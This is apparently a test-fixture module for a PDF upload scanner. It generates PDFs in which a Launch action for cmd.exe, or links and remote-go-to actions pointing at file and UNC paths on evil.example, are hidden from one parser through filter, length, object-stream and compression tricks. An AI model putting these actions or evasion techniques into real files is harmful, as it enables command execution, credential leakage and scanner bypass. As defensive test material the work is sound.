import { brotliCompressSync, constants, deflateSync } from 'node:zlib';
import { makePdf, type PdfOptions, streamObject } from '@novosel/testing/uploads/make-pdf.ts';
import type { Sample } from './good-samples.ts';
import { packLzw } from './pack-lzw.ts';

const actions = [
  '<< /S /Launch /F (cmd.exe) >>',
  '<< /S /URI /URI (file://evil.example/share) >>',
  '<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>',
];

/** Papers that one reader takes for empty, and in which another finds what acts or leads out. */
export function papersOfTwoReadings(): Sample[] {
  const addresses = [
    '\\001file://evil.example/share',
    'fi\\nle://evil.example/share',
    ' \\t//evil.example/share',
  ];
  return [
    ...actions.flatMap((action, i) =>
      [...veiled(packing(action), holding), ...holders(action)].map(({ name, bytes }) => ({
        name: `action ${i}, ${name}`,
        bytes,
      })),
    ),
    ...addresses.map((address, i) => ({
      name: `an address with control signs ${i}.pdf`,
      bytes: makePdf({ objects: { 9: `<< /S /URI /URI (${address}) >>` } }),
    })),
  ];
}

/** Entries of a stream of one packed object, which is number 50. */
const holding = '/Type /ObjStm /N 1 /First 5';
const packing = (body: string) => Buffer.from(`50 0 ${body}`, 'latin1');

/** A stream of which one reader unpacks less than another. */
export function veiled(content: Buffer, facts = ''): Sample[] {
  const flate = deflateSync(content, { level: 9 });
  const plain = (filters: string, data = flate, more = '', options: PdfOptions = {}) =>
    makePdf({
      ...options,
      objects: { ...options.objects, 19: streamObject(data, filters, `${facts} ${more}`) },
    });
  const before = (signs: string) => ({
    19: streamObject(flate, '/FlateDecode', facts).replace('\nstream\n', `${signs}stream\n`),
  });
  const objects = { 9: 'null\nendobj\n10 0 obj\n/RunLengthDecode', 10: '/FlateDecode' };
  return [
    { name: 'a filter of tomorrow.pdf', bytes: plain('/BrotliDecode', brotliCompressSync(content)) },
    { name: 'a filter that nobody knows.pdf', bytes: plain('[/Foo /FlateDecode]') },
    { name: 'a filter of pictures first.pdf', bytes: plain('[/JBIG2Decode /FlateDecode]') },
    { name: 'spaces before a stream.pdf', bytes: makePdf({ objects: before(' '.repeat(300)) }) },
    { name: 'a remark before a stream.pdf', bytes: makePdf({ objects: before(`%${'x'.repeat(300)}\n`) }) },
    { name: 'a filter written twice.pdf', bytes: plain('10 0 R', flate, '', { objects }) },
    {
      name: 'a filter far from its number.pdf',
      bytes: plain('10 0 R', flate, '', { objects: { 10: '/FlateDecode' }, gap: ' '.repeat(46) }),
    },
    {
      name: 'a filter behind remarks.pdf',
      bytes: plain('10 0 R', flate, '', { objects: { 10: '/FlateDecode' }, gap: ' %x\n%y\r ' }),
    },
    {
      name: 'a filter with a point.pdf',
      bytes: plain('10.0 0 R', flate, '', { objects: { 10: '/FlateDecode' } }),
    },
    { name: 'two filters.pdf', bytes: plain('/RunLengthDecode', flate, '/F /FlateDecode') },
    { name: 'an end that is a value.pdf', bytes: plain('/FlateDecode', flate, '/Foo >> /Bar 1') },
    { name: 'an object that is not closed.pdf', bytes: plain('/FlateDecode', flate, '/Foo endobj /Bar 1') },
  ];
}

/** Packed objects of which one reader sees more than another. */
function holders(action: string): Sample[] {
  const content = packing(action);
  const flate = deflateSync(content);
  const twice = (first: string, second: string, entry: string) =>
    makePdf({
      objects: {
        9: `null\nendobj\n10 0 obj\n${first}`,
        10: second,
        19: streamObject(
          flate,
          '/FlateDecode',
          holding.replace(new RegExp(`${entry} \\d`), `${entry} 10 0 R`),
        ),
      },
    });
  const cut = deflateSync(content, { finishFlush: constants.Z_SYNC_FLUSH });
  const stored = deflateSync(Buffer.from(`50 20 ${' '.repeat(9)}endstream  ${action}`), { level: 0 });
  const lengths = {
    9: `null\nendobj\n10 0 obj\n${stored.indexOf('endstream')}`,
    10: `${stored.length}`,
    19: streamObject(stored, '/FlateDecode', holding.replace('/First 5', '/First 6')).replace(
      /\/Length \d+/,
      '/Length 10 0 R',
    ),
  };
  const manySigns = Array.from({ length: 600 }, (_, i) =>
    String.fromCharCode(33 + (i % 7), 40 + (i % 83)),
  ).join('');
  const long = Buffer.from(`50 0 [ <${Buffer.from(manySigns).toString('hex')}> ${action} ]`);
  return [
    { name: 'a count written twice.pdf', bytes: twice('0', '1', '/N') },
    { name: 'a place written twice.pdf', bytes: twice('400', '5', '/First') },
    { name: 'a length written twice.pdf', bytes: makePdf({ objects: lengths }) },
    {
      name: 'a break behind.pdf',
      bytes: makePdf({
        objects: { 19: streamObject(Buffer.concat([cut, Buffer.alloc(8, 0xff)]), '/FlateDecode', holding) },
      }),
    },
    {
      name: 'codes that grow late.pdf',
      bytes: makePdf({
        objects: {
          19: streamObject(packLzw(long, 0), '/LZWDecode', `${holding} /DecodeParms << /EarlyChange 0 >>`),
        },
      }),
    },
  ];
}
